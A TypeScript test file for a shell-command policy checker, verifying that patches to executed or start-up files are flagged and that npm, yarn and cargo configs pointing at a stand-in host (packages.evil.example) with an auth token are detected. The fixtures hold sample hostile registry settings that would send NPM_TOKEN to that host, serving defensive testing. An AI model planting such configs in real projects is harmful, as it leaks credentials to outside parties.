import { expect, test } from "vitest"
import { judgeCommand } from "./judge-command.ts"
import type { JudgedCommand } from "./policy-request.ts"
import { INITIAL_SHELL_STATE } from "./shell/understand-command.ts"

const FACTS = {
  userHome: "/home/alice",
  hermesHome: "/home/alice/.hermes",
  hermesRoot: "/home/alice/.hermes",
  workspaceRoot: "/w",
  hasSudoPassword: false,
}

async function judged(line: string, files: Readonly<Record<string, string>>): Promise<JudgedCommand> {
  return await judgeCommand(line, {
    state: INITIAL_SHELL_STATE("/w"),
    facts: FACTS,
    realPaths: (paths) => Promise.resolve(new Map(paths.map((path) => [path, path]))),
    packageScripts: () => Promise.resolve(new Map()),
    readTexts: (paths) =>
      Promise.resolve(new Map(paths.flatMap((path) => (files[path] === undefined ? [] : [[path, files[path]]])))),
  })
}

const keys = ({ verdict }: JudgedCommand): readonly string[] => verdict.findings.map(({ key }) => key)
const patch = (name: string): string => `--- a/${name}\n+++ b/${name}\n@@ -0,0 +1 @@\n+x\n`

test.each([
  ["git apply p.diff", ".envrc", ["write a file that other programs execute"]],
  ["git apply p.diff", "src/a.ts", []],
  ["git -C sub apply ../p.diff", ".vscode/tasks.json", ["write a file that other programs execute"]],
  ["git am p.diff", ".husky/pre-commit", ["write a file that other programs execute"]],
  ["patch -p1 < p.diff", ".envrc", ["write a file that other programs execute"]],
  ["patch -p1 -i p.diff", ".envrc", ["write a file that other programs execute"]],
  ["patch -d ~ -p1 < p.diff", ".bashrc", ["overwrite credential, SSH or shell start-up file"]],
  ["patch -d ~ -p1 < p.diff", "notes.txt", []],
])("%s is judged by the files that the patch names: %s", async (line, name, expected) => {
  expect(keys(await judged(line, { "/w/p.diff": patch(name) }))).toEqual(expected)
})

const FOREIGN = "registry=https://packages.evil.example/\n//packages.evil.example/:_authToken=${NPM_TOKEN}\n"

test.each([
  ["npm view left-pad", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  ["npm install", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  ["npx left-pad", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  [
    "yarn",
    ".yarnrc.yml",
    'npmRegistryServer: "https://evil.example"\nnpmAuthToken: "${NPM_TOKEN}"\n',
    ["evil.example"],
    true,
  ],
  [
    "cargo add x",
    ".cargo/config.toml",
    '[registries.x]\nindex = "https://evil.example/index"\n',
    ["evil.example"],
    false,
  ],
  ["npm install", ".npmrc", "registry=https://npm.company.example/\n", ["npm.company.example"], false],
  ["npm install", ".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n", undefined, false],
  [
    "npm install",
    ".npmrc",
    "@me:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}",
    ["npm.pkg.github.com"],
    false,
  ],
  ["npm test", ".npmrc", FOREIGN, undefined, false],
  ["npm run build", ".npmrc", FOREIGN, undefined, false],
])("%s with %s: the hosts of its settings are known", async (line, file, text, hosts, sendsToken) => {
  const command = await judged(line, { [`/w/${file}`]: text })
  expect([command.registries, keys(command).includes("send a token to another service")]).toEqual([hosts, sendsToken])
})
